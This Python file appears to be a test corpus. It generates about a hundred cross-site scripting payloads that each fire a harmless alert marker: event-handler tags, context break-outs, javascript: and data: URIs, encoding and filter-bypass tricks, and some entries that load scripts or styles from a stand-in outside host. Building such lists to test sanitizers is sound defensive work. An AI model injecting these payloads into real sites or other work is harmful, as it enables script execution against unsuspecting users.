"""A hundred ways to write markup that runs somewhere, in a field that is meant for words."""

from itertools import product

MARK = "quoll"  # stands in every payload and nowhere else
RUN = f"alert('{MARK}')"
TAGS = ["img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "details open", "input autofocus"]
TAGS += ["marquee", "select autofocus", "object data=x", "math"]
EVENTS = ["onerror", "onload", "ontoggle", "onfocus"]
WRAPPED = [f"<{tag} {event}={RUN}>" for tag, event in product(TAGS, EVENTS)]
PLAIN = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=//elsewhere.example/{MARK}.js></script>",
    f"<script type=module>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"` onmouseover=`{RUN}`",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f'" autofocus onfocus="{RUN}" x="',
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"<a href=javascript:{RUN}>here</a>",
    f'<a href="java&#115;cript:{RUN}">here</a>',
    f'<a href="data:text/html;base64,PHNjcmlwdD4=">{MARK}</a>',
    f"[here](javascript:{RUN})",
    f'<form action="javascript:{RUN}"><button>{MARK}</button></form>',
    f'<button formaction="javascript:{RUN}">{MARK}</button>',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<base href="//elsewhere.example/{MARK}/">',
    f'<link rel=stylesheet href="//elsewhere.example/{MARK}.css">',
    f"<style>@import '//elsewhere.example/{MARK}.css';</style>",
    f'<div style="background:url(javascript:{RUN})">',
    f'<svg><script href="data:,{RUN}"/></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>{MARK}</text></a></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<template><script>{RUN}</script></template><img src=x onerror="{RUN}">',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"{{{{ {MARK}|safe }}}}{{% debug %}}",
    f"${{{RUN}}}#{{{RUN}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"＜script＞{RUN}＜/script＞",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"<img src=x onerror\u000b={RUN}>",
    f"<x contenteditable onblur={RUN}>lose focus</x>",
    f"<isindex type=image src=x onerror={RUN}>",
    f"<keygen autofocus onfocus={RUN}>",
    f'<embed src="javascript:{RUN}">',
    f"<portal src='javascript:{RUN}'>",
]
PAYLOADS = WRAPPED + PLAIN
